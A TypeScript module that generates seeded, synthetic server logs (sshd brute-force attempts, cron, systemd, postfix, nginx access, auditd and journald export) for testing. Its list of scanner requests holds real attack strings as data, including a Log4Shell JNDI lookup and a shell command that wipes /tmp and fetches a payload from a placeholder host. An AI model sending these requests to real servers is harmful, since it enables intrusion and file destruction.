/**
 * Logs of a busy server, made up line by line: the same bytes each time, for the same seed and size.
 *
 * Why not real ones: evidence does not leave where it lies, and a size must be had at will. The mix follows what such a
 * host writes: a guesser at ssh all day, jobs of cron, units and kernel in syslog, people, crawlers and scanners at the
 * web server, programs and logins in the audit log. Addresses are those for documentation (RFC 5737), names made up.
 */
import { closeSync, openSync, writeSync } from 'node:fs';

/** Marsaglia, "Xorshift RNGs", Journal of Statistical Software 8 (2003): 13, 17, 5. */
class Dice {
  #state: number;

  constructor(seed: number) {
    this.#state = seed | 1;
  }

  /** A whole number from 0 on and below `count`. */
  below(count: number): number {
    let x = this.#state;
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    this.#state = x;
    return (x >>> 0) % count;
  }

  of(words: readonly string[]): string {
    return words[this.below(words.length)] ?? '';
  }

  hex(digits: number): string {
    let text = '';
    while (text.length < digits) text += this.below(1 << 28).toString(16);
    return text.slice(0, digits);
  }
}

/** Says what happened at a moment, in seconds UTC: one line or several, each with its end. */
type Happening = (dice: Dice, second: number) => string;

const host = 'web01';
const begun = Date.UTC(2024, 2, 1) / 1000;
const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const two = (value: number): string => (value < 10 ? `0${value}` : `${value}`);
const clockOf = (date: Date): string =>
  `${two(date.getUTCHours())}:${two(date.getUTCMinutes())}:${two(date.getUTCSeconds())}`;

/** Rsyslog's traditional form. */
function traditional(second: number): string {
  const date = new Date(second * 1000);
  return `${months[date.getUTCMonth()]} ${`${date.getUTCDate()}`.padStart(2)} ${clockOf(date)} ${host}`;
}

/** Its form since Debian 12. */
function precise(dice: Dice, second: number): string {
  const micro = `${dice.below(1_000_000)}`.padStart(6, '0');
  return `${new Date(second * 1000).toISOString().slice(0, 19)}.${micro}+00:00 ${host}`;
}

const address = (dice: Dice): string =>
  `${dice.of(['192.0.2', '198.51.100', '203.0.113'])}.${1 + dice.below(254)}`;
const guessed = ['admin', 'test', 'oracle', 'ubuntu', 'postgres', 'git', 'user', 'ftpuser', 'hadoop', 'pi'];
const people = ['alice', 'bob', 'carol', 'deploy'];

const auth: Happening = (dice, second) => {
  const head = traditional(second);
  const pid = 1000 + dice.below(60_000);
  const [port, from, kind] = [1024 + dice.below(64_000), address(dice), dice.below(100)];
  const ssh = `${head} sshd[${pid}]:`;
  if (kind < 30) {
    const name = dice.of(guessed);
    return `${ssh} Invalid user ${name} from ${from} port ${port}
${ssh} pam_unix(sshd:auth): check pass; user unknown
${ssh} pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${from}\x20
${ssh} Failed password for invalid user ${name} from ${from} port ${port} ssh2
${ssh} Received disconnect from ${from} port ${port}:11: Bye Bye [preauth]
${ssh} Disconnected from invalid user ${name} ${from} port ${port} [preauth]
`;
  }
  if (kind < 60) {
    return `${ssh} pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${from}  user=root
${ssh} Failed password for root from ${from} port ${port} ssh2
${ssh} Connection closed by authenticating user root ${from} port ${port} [preauth]
`;
  }
  if (kind < 90) {
    return `${head} CRON[${pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)
${head} CRON[${pid}]: pam_unix(cron:session): session closed for user root
`;
  }
  const name = dice.of(people);
  if (kind < 96) {
    return `${ssh} Accepted publickey for ${name} from ${from} port ${port} ssh2: ED25519 SHA256:${dice.hex(43)}
${ssh} pam_unix(sshd:session): session opened for user ${name}(uid=1000) by (uid=0)
${head} systemd-logind[612]: New session ${dice.below(90_000)} of user ${name}.
${ssh} Received disconnect from ${from} port ${port}:11: disconnected by user
${ssh} pam_unix(sshd:session): session closed for user ${name}
`;
  }
  return `${head} sudo:    ${name} : TTY=pts/0 ; PWD=/home/${name} ; USER=root ; COMMAND=/usr/bin/systemctl reload nginx
${head} sudo: pam_unix(sudo:session): session opened for user root(uid=0) by ${name}(uid=1000)
${head} sudo: pam_unix(sudo:session): session closed for user root
`;
};

const units = ['logrotate', 'apt-daily', 'fstrim', 'man-db', 'e2scrub_all', 'systemd-tmpfiles-clean'];

const syslog: Happening = (dice, second) => {
  const head = precise(dice, second);
  const pid = 300 + dice.below(60_000);
  switch (dice.below(12)) {
    case 0:
    case 1:
    case 2:
      return `${head} CRON[${pid}]: (root) CMD (  [ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean)\n`;
    case 3:
    case 4: {
      const unit = dice.of(units);
      return `${head} systemd[1]: Starting ${unit}.service - Run of ${unit}...
${head} systemd[1]: ${unit}.service: Deactivated successfully.
${head} systemd[1]: Finished ${unit}.service - Run of ${unit}.
`;
    }
    case 5:
      return `${head} kernel: [${second % 9_000_000}.${dice.below(900_000) + 100_000}] [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:${dice.hex(2)}:${dice.hex(2)}:01:08:00 SRC=${address(dice)} DST=192.0.2.10 LEN=40 TOS=0x00 PREC=0x00 TTL=${40 + dice.below(200)} ID=${dice.below(65_536)} PROTO=TCP SPT=${dice.below(65_536)} DPT=${dice.below(65_536)} WINDOW=1024 RES=0x00 SYN URGP=0\x20\n`;
    case 6:
      return `${head} dockerd[845]: time="${new Date(second * 1000).toISOString().slice(0, 19)}.${dice.below(900_000) + 100_000}Z" level=info msg="ignoring event" container=${dice.hex(64)} module=libcontainerd namespace=moby topic=/tasks/delete type="*events.TaskDelete"\n`;
    case 7:
    case 8: {
      const id = dice.hex(10).toUpperCase();
      return `${head} postfix/smtpd[${pid}]: connect from unknown[${address(dice)}]
${head} postfix/qmgr[1177]: ${id}: from=<${dice.of(people)}@example.net>, size=${dice.below(90_000)}, nrcpt=1 (queue active)
${head} postfix/smtp[${pid}]: ${id}: to=<${dice.of(people)}@example.org>, relay=mx.example.org[${address(dice)}]:25, delay=0.${dice.below(90) + 10}, delays=0.01/0/0.2/0.3, dsn=2.0.0, status=sent (250 2.0.0 Ok: queued as ${dice.hex(11).toUpperCase()})
`;
    }
    case 9:
      return `${head} dhclient[701]: DHCPACK of 192.0.2.10 from 192.0.2.1 (xid=0x${dice.hex(8)})
${head} dhclient[701]: bound to 192.0.2.10 -- renewal in ${dice.below(40_000)} seconds.
`;
    case 10:
      return `${head} named[930]: client @0x7f${dice.hex(10)} ${address(dice)}#${dice.below(65_536)} (www.example.net): query: www.example.net IN A +E(0)K (192.0.2.10)\n`;
    default:
      return `${head} app[1406]: ${dice.of(['INFO', 'WARN', 'DEBUG'])} request ${dice.hex(16)} took ${dice.below(900)} ms, ${dice.below(60)} rows, user ${dice.of(people)}\n`;
  }
};

const pages = [
  '/',
  '/index.php',
  '/about',
  '/products?page=3&sort=price',
  '/api/v1/items?limit=50&offset=100',
  '/cart',
  '/search?q=garden%20chair&lang=en',
  '/blog/2024/03/how-to-sharpen-a-saw/',
  '/wp-content/themes/shop/style.css?ver=6.4.3',
  '/wp-content/uploads/2024/02/picture-1024x768.jpg',
  '/assets/js/app.4f1c2a.js',
  '/assets/fonts/inter-var.woff2',
  '/favicon.ico',
  '/robots.txt',
  '/wp-cron.php?doing_wp_cron=1709251200.1234567890123456789012',
  '/wp-admin/admin-ajax.php',
];
/** What scanners ask every server for, all day. */
const scanned = [
  '/.env',
  '/wp-login.php',
  '/.git/config',
  '/phpmyadmin/index.php',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh',
  '/?q=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.66%2Fa%7D',
  '/boaform/admin/formLogin',
  '/shell?cd+/tmp;rm+-rf+*;wget+192.0.2.66/x',
  '/actuator/gateway/routes',
];
const agents = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0',
  'Mozilla/5.0 (compatible; examplebot/2.1; +http://www.example.com/bot.html)',
  'curl/8.5.0',
];

const access: Happening = (dice, second) => {
  const date = new Date(second * 1000);
  const stamp = `${two(date.getUTCDate())}/${months[date.getUTCMonth()]}/${date.getUTCFullYear()}:${clockOf(date)} +0000`;
  const isScan = dice.below(50) === 0;
  const target = isScan ? dice.of(scanned) : dice.of(pages);
  const kind = dice.below(20);
  const method = kind === 0 ? 'POST' : kind === 1 ? 'HEAD' : 'GET';
  const status = isScan ? 404 : dice.of(['200', '200', '200', '200', '200', '304', '301', '404']);
  const size = isScan ? 153 : dice.below(60_000);
  const referrer = dice.below(3) === 0 ? '-' : `https://www.example.com${dice.of(pages)}`;
  return `${address(dice)} - - [${stamp}] "${method} ${target} HTTP/1.1" ${status} ${size} "${referrer}" "${dice.of(agents)}"\n`;
};

const commands = [
  ['/usr/bin/ls', 'ls', '--color=auto', '-l'],
  ['/usr/bin/grep', 'grep', '-q', 'enabled', '/etc/default/app'],
  ['/usr/bin/dash', 'sh', '-c', 'test -x /usr/sbin/anacron || run-parts --report /etc/cron.hourly'],
  ['/usr/bin/curl', 'curl', '-fsS', 'http://127.0.0.1:8080/health'],
  ['/usr/bin/systemctl', 'systemctl', 'is-active', 'nginx'],
] as const;

const audit: Happening = (dice, second) => {
  const serial = (second - begun) * 7 + dice.below(7);
  const stamp = `msg=audit(${second}.${`${dice.below(1000)}`.padStart(3, '0')}:${serial})`;
  const [pid, session, kind] = [300 + dice.below(60_000), dice.below(9000), dice.below(10)];
  if (kind < 6) {
    const [exe, ...words] = commands[dice.below(commands.length)] ?? commands[0];
    const told = words.map(
      (word, at) =>
        `a${at}=${/[ ;]/.test(word) ? Buffer.from(word).toString('hex').toUpperCase() : `"${word}"`}`,
    );
    return `type=SYSCALL ${stamp}: arch=c000003e syscall=59 success=yes exit=0 a0=55${dice.hex(10)} a1=55${dice.hex(10)} a2=55${dice.hex(10)} a3=8 items=2 ppid=${pid - 1} pid=${pid} auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=${session} comm="${words[0]}" exe="${exe}" subj=unconfined key="exec"\x1dARCH=x86_64 SYSCALL=execve AUID="alice" UID="root" GID="root" EUID="root" SUID="root" FSUID="root" EGID="root" SGID="root" FSGID="root"
type=EXECVE ${stamp}: argc=${words.length} ${told.join(' ')}
type=CWD ${stamp}: cwd="/root"
type=PATH ${stamp}: item=0 name="${exe}" inode=${dice.below(900_000)} dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0\x1dOUID="root" OGID="root"
type=PATH ${stamp}: item=1 name="/lib64/ld-linux-x86-64.so.2" inode=${dice.below(900_000)} dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0\x1dOUID="root" OGID="root"
type=PROCTITLE ${stamp}: proctitle=${Buffer.from(words.join('\0')).toString('hex').toUpperCase()}
`;
  }
  if (kind < 8) {
    const from = address(dice);
    const who = `exe="/usr/sbin/sshd" hostname=${from} addr=${from} terminal=ssh`;
    const head = `${stamp}: pid=${pid} uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg=`;
    const tail = '\'\x1dUID="root" AUID="unset"';
    return `type=USER_AUTH ${head}'op=PAM:authentication grantors=? acct="root" ${who} res=failed${tail}
type=USER_LOGIN ${head}'op=login acct="root" ${who} res=failed${tail}
`;
  }
  if (kind === 8) {
    const head = `${stamp}: pid=${pid} uid=0 auid=0 ses=${session} subj=unconfined msg=`;
    const tail = '\'\x1dUID="root" AUID="root"';
    const who = 'exe="/usr/sbin/cron" hostname=? addr=? terminal=cron res=success';
    return `type=USER_ACCT ${head}'op=PAM:accounting grantors=pam_permit acct="root" ${who}${tail}
type=CRED_ACQ ${head}'op=PAM:setcred grantors=pam_permit acct="root" ${who}${tail}
type=LOGIN ${stamp}: pid=${pid} uid=0 subj=unconfined old-auid=4294967295 auid=0 tty=(none) old-ses=4294967295 ses=${session} res=1\x1dUID="root" OLD-AUID="unset" AUID="root"
type=USER_START ${head}'op=PAM:session_open grantors=pam_loginuid,pam_env,pam_unix,pam_limits acct="root" ${who}${tail}
type=CRED_DISP ${head}'op=PAM:setcred grantors=pam_permit acct="root" ${who}${tail}
type=USER_END ${head}'op=PAM:session_close grantors=pam_loginuid,pam_env,pam_unix,pam_limits acct="root" ${who}${tail}
`;
  }
  const unit = dice.of(units);
  const head = `${stamp}: pid=1 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='unit=${unit} comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success'\x1dUID="root" AUID="unset"`;
  return `type=SERVICE_START ${head}\ntype=SERVICE_STOP ${head}\n`;
};

const traceOf = (dice: Dice): string =>
  Array.from({ length: 12 + dice.below(20) }, (_, depth) => {
    const [name, line] = [dice.of(people), dice.below(900)];
    return `at com.example.shop.${name}.Handler${depth}.handle(Handler${depth}.java:${line}) [0x${dice.hex(12)}]`;
  }).join(' ');

/** An entry as `journalctl -o export` gives it: systemd docs/JOURNAL_EXPORT_FORMATS.md. */
const journal: Happening = (dice, second) => {
  const us = second * 1_000_000 + dice.below(1_000_000);
  const text = auth(dice, second) + syslog(dice, second);
  let out = '';
  let at = us;
  for (const line of text.trimEnd().split('\n')) {
    const told = /^(?:\S+ +\d+ \S+|\S+) \S+ ([^:[ ]+)(?:\[(\d+)\])?: +(.*)$/.exec(line);
    if (told === null) continue;
    const [, program = '', pid = '1', said = ''] = told;
    // Above 512 bytes journald compresses: traces of a program that failed.
    const message = dice.below(30) === 0 ? `${said} ${traceOf(dice)}` : said;
    at += 1 + dice.below(40_000);
    const folder = program === 'systemd' ? 'init.scope' : `system.slice/${program}.service`;
    out += `__REALTIME_TIMESTAMP=${at}
__MONOTONIC_TIMESTAMP=${at - begun * 1_000_000 + 4_000_000}
_BOOT_ID=5f1d0c3a9b8e47d2a6c4e1f083b7295d
_MACHINE_ID=9c2e7a41d5f84b06b3a81c0e6f7d2945
_HOSTNAME=${host}
PRIORITY=6
SYSLOG_FACILITY=${program === 'kernel' ? 0 : 10}
SYSLOG_IDENTIFIER=${program}
SYSLOG_PID=${pid}
_TRANSPORT=${program === 'kernel' ? 'kernel' : 'syslog'}
_PID=${pid}
_UID=0
_GID=0
_COMM=${program.toLowerCase()}
_EXE=/usr/sbin/${program.toLowerCase()}
_CMDLINE="${program}: [listener]"
_CAP_EFFECTIVE=1ffffffffff
_SELINUX_CONTEXT=unconfined
_SYSTEMD_CGROUP=/${folder}
_SYSTEMD_UNIT=${program}.service
_SYSTEMD_SLICE=system.slice
_SYSTEMD_INVOCATION_ID=0f8fad5bd9cb469fa16570867728950e
_RUNTIME_SCOPE=system
_SOURCE_REALTIME_TIMESTAMP=${at - 40 - dice.below(900)}
MESSAGE=${message}

`;
  }
  return out;
};

const happenings = { auth, syslog, access, audit, journal } as const;

export type LogName = keyof typeof happenings;

export interface Written {
  readonly lines: number;
  readonly bytes: number;
}

const pieceSize = 1 << 20;

/**
 * Writes a log until it has so many bytes; of the journal what systemd-journal-remote(8) takes, an entry an empty line.
 *
 * @param secondsBetween two things that happen lie at most so far from each other
 */
export function writeLog(name: LogName, path: string, bytes: number, secondsBetween = 2): Written {
  const dice = new Dice(0x5eed + name.length * 7919);
  const happen = happenings[name];
  const file = openSync(path, 'w');
  let second = begun;
  let [written, lines, text] = [0, 0, ''];
  try {
    while (written < bytes) {
      text += happen(dice, second);
      second += dice.below(secondsBetween);
      if (text.length < pieceSize && written + text.length < bytes) continue;
      const piece = Buffer.from(text, 'latin1');
      for (let at = piece.indexOf(0x0a); at >= 0; at = piece.indexOf(0x0a, at + 1)) lines += 1;
      for (let at = 0; at < piece.length; ) at += writeSync(file, piece, at);
      written += piece.length;
      text = '';
    }
  } finally {
    closeSync(file);
  }
  return { lines, bytes: written };
}
